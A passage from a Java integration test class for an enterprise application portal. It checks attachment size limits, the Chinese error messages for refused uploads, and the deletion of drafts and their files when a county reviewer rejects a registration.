	@Test
	void answersAnUploadBeyondTheMultipartLimitInChineseToo() {
		long id = enterprise.createDraft("PROJECT", project(1));
		long files = storedFiles();

		HttpResponse<String> refused = enterprise.upload(id, "PROJECT_PLAN", "方案.pdf", pdfOfSize(TEN_MB + TEN_MB / 8));

		assertThat(refused.statusCode()).as(refused.body()).isEqualTo(413);
		assertThat(errors(refused)).containsExactly(new FieldProblem("file", "单个附件不能超过 10 MB，请压缩后重新上传"));
		assertThat(attachmentRowsOf(id)).isZero();
		assertThat(storedFiles()).isEqualTo(files);
	}

	/**
	 * Several files in one request over the request's 50 MB: the answer says so, not that
	 * a single file was too large (none was).
	 */
	@Test
	void answersSeveralFilesBeyondTheRequestLimitWithTheLimitOfTheWhole() {
		long id = enterprise.createDraft("PROJECT", project(1));
		long files = storedFiles();

		HttpResponse<String> refused = enterprise.uploadSeveral(id, "OTHER", 6, pdfOfSize(9 * 1024 * 1024));

		assertThat(refused.statusCode()).as(refused.body()).isEqualTo(413);
		assertThat(errors(refused)).containsExactly(new FieldProblem("file", "一次上传的文件合计不能超过 50 MB，请分次上传，或压缩后重新上传"));
		assertThat(attachmentRowsOf(id)).isZero();
		assertThat(storedFiles()).isEqualTo(files);
	}

	@Test
	void acceptsFiftyMegabytesOfAttachmentsButNotOneByteMore() {
		long id = enterprise.createDraft("PROJECT", project(1));
		try {
			byte[] tenMegabytes = pdfOfSize(TEN_MB);
			for (int i = 1; i <= 5; i++) {
				enterprise.attach(id, "OTHER", "附件" + i + ".pdf", tenMegabytes);
			}
			assertUploadRefused(id, "附件6.pdf", pdf("one too many"), 400, "一份申报的附件合计不能超过 50 MB，请压缩或删除部分附件后再上传");
		}
		finally {
			// 50 MB in the shared in-memory database would weigh on every later test
			assertThat(enterprise.delete(id).statusCode()).isEqualTo(204);
		}
	}

	/**
	 * Before activation an account's drafts hold 50 MB of attachments in all, not 50 MB
	 * each; a rejected registration takes its drafts and their files with it.
	 */
	@Test
	void anAccountNotYetActivatedHoldsOneDossiersWorthAndARejectionTakesItsDrafts() {
		String userId = Registrations.freshUserId();
		assertThat(Registrations
			.submit(new WebClient(port), Registrations.validForm(Registrations.freshCreditCode("371525"), userId))
			.statusCode()).isEqualTo(302);
		ApplicationApi pending = ApplicationApi.as(port, userId, Registrations.PASSWORD);
		long first = pending.createDraft("PROJECT", project(1));
		long second = pending.createDraft("PROJECT", project(1));
		assertThat(pending.actions().body()).as("drafts it cannot submit yet are not asked of it")
			.doesNotContain("\"applicationId\":" + first + ",")
			.doesNotContain("待提交");
		byte[] tenMegabytes = pdfOfSize(TEN_MB);
		for (int i = 1; i <= 5; i++) {
			pending.attach(first, "OTHER", "附件" + i + ".pdf", tenMegabytes);
		}
		HttpResponse<String> more = pending.upload(second, "BUSINESS_LICENCE", "营业执照.pdf", pdf("licence " + second));
		assertThat(more.statusCode()).as(more.body()).isEqualTo(400);
		assertThat(errors(more)).containsExactly(
				new FieldProblem("file", "账户激活前，全部申报草稿的附件合计不能超过 50 MB；所在县（市、区）工业和信息化局激活账户后，每份申报的附件可达 50 MB"));
		assertThat(attachmentRowsOf(second)).isZero();

		long enterpriseId = jdbc.sql("SELECT id FROM enterprise WHERE user_id = ?")
			.param(userId)
			.query(Long.class)
			.single();
		List<Long> fileIds = jdbc.sql("SELECT file_id FROM attachment WHERE application_id = ?")
			.param(first)
			.query(Long.class)
			.list();
		assertThat(fileIds).hasSize(5);
		HttpResponse<String> rejected = new WebClient(port).withBasic(DemoUsers.COUNTY_REVIEWER, DemoUsers.PASSWORD)
			.postJson("/api/county/enterprises/" + enterpriseId + "/reject", "{\"reason\":\"冒用他人名义注册\"}");
		assertThat(rejected.statusCode()).as(rejected.body()).isEqualTo(200);
		assertThat(jdbc.sql("SELECT COUNT(*) FROM application WHERE enterprise_id = ?")
			.param(enterpriseId)
			.query(Long.class)
			.single()).isZero();
		assertThat(jdbc.sql("SELECT COUNT(*) FROM stored_file WHERE id IN (:ids)")
			.param("ids", fileIds)
			.query(Long.class)
			.single()).isZero();
	}

	@Test
	void refusesACategoryThatTheKindDoesNotOffer() {
		long id = enterprise.createDraft("PROJECT", project(1));
		long files = storedFiles();
		HttpResponse<String> refused = enterprise.upload(id, "INVOICE", "发票.pdf", pdf("invoice"));
		assertThat(refused.statusCode()).as(refused.body()).isEqualTo(400);
		assertThat(errors(refused)).containsExactly(new FieldProblem("category", "请选择附件类别"));
		assertThat(attachmentRowsOf(id)).isZero();
		assertThat(storedFiles()).isEqualTo(files);
	}

	private void assertUploadRefused(long id, String fileName, byte[] content, int status, String message) {
		long attachments = attachmentRowsOf(id);
		long files = storedFiles();

		HttpResponse<String> refused = enterprise.upload(id, "BUSINESS_LICENCE", fileName, content);

		assertThat(refused.statusCode()).as(refused.body()).isEqualTo(status);
		assertThat(errors(refused)).containsExactly(new FieldProblem("file", message));
		assertThat(attachmentRowsOf(id)).isEqualTo(attachments);
		assertThat(storedFiles()).isEqualTo(files);
	}

	private long attachmentRowsOf(long id) {
		return jdbc.sql("SELECT COUNT(*) FROM attachment WHERE application_id = ?")
			.param(id)
			.query(Long.class)
			.single();
	}

	private long storedFiles() {
		return jdbc.sql("SELECT COUNT(*) FROM stored_file").query(Long.class).single();
	}

	private long rowsCreatedWith(String key) {
		return jdbc.sql("SELECT COUNT(*) FROM application WHERE creation_key = ?")
			.param(key)
			.query(Long.class)
			.single();
	}

	private long submissionEventsOf(long id) {
		return jdbc.sql("SELECT COUNT(*) FROM application_event WHERE application_id = ? AND action = 'SUBMITTED'")
			.param(id)
			.query(Long.class)
			.single();
	}

	private long processInstancesOf(long id) {
		// The county review runs as a called process with the same business key: count
		// the main process only.
		return runtime.createProcessInstanceQuery()
			.processInstanceBusinessKey(String.valueOf(id))
			.processDefinitionKey("project-registration")
			.count();
	}

}
